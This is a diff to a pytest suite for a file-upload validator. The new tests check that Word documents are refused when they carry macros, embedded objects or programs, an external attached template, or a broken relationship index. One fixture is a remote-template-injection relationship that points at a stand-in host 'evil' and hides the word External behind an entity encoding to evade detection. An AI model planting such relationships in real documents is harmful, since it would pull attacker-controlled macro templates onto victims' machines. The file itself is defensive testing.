@@ -104,14 +104,17 @@ def test_versions_have_a_limit(contract, vera):
         handed(contract)
 
 
-def office(*parts):
+def office(*parts, **contents):
     held = io.BytesIO()
     with zipfile.ZipFile(held, "w") as archive:
         for part in parts:
-            archive.writestr(part, "x")
+            archive.writestr(part, contents.get(part.rpartition(".")[2], "x"))
     return held.getvalue()
 
 
+TEMPLATE = '<a><b Type="http://x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="&#69;xternal"/></a>'
+LINK = '<a><b Type="http://x/hyperlink" Target="http://x/" TargetMode="External"/></a>'
+MACROS = '<a><b ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></a>'
 BYTES = {
     "pdf": (PDF, "pdf"),
     "png": (b"\x89PNG\r\n\x1a\n....", "png"),
@@ -139,13 +142,27 @@ def test_a_file_is_known_by_its_content(data, kind):
         pytest.param(b"", "is empty", id="empty"),
         pytest.param(b"%PDF-" + b"0" * MOST_BYTES, "limit is 20 MB", id="too large"),
         pytest.param(b"MZ\x90\x00", "no accepted type", id="program"),
-        pytest.param(office("word/document.xml", "word/vbaProject.bin"), "macros", id="macros"),
+        pytest.param(office("word/document.xml", "word/VBAPROJECT.BIN"), "macros", id="macros"),
+        pytest.param(office("word/document.xml", "word/embeddings/a.ole"), "embedded objects", id="objects"),
+        pytest.param(office("word/document.xml", "word/a.EXE"), "embedded programs", id="programs"),
+        pytest.param(
+            office("word/document.xml", "word/_rels/settings.xml.rels", rels=TEMPLATE),
+            "outside template",
+            id="outside template",
+        ),
+        pytest.param(office("word/document.xml", "word/_rels/settings.xml.rels", rels="<"), "index", id="bad index"),
+        pytest.param(office("word/document.xml", "[Content_Types].xml", xml=MACROS), "macros", id="macro type"),
     ),
 )
 def test_a_bad_file_is_refused_and_nothing_kept(data, said, tmp_path):
     with pytest.raises(FilingError, match=said):
         file_away("list.pdf", data)
     assert not list(tmp_path.rglob("*.*"))
+
+
+def test_a_word_document_with_a_plain_link_and_printer_settings_is_taken():
+    data = office("word/document.xml", "word/_rels/a.rels", "word/printerSettings/printerSettings1.bin", rels=LINK)
+    assert file_away("a.docx", data).kind == "docx"
 
 
 @pytest.mark.parametrize(
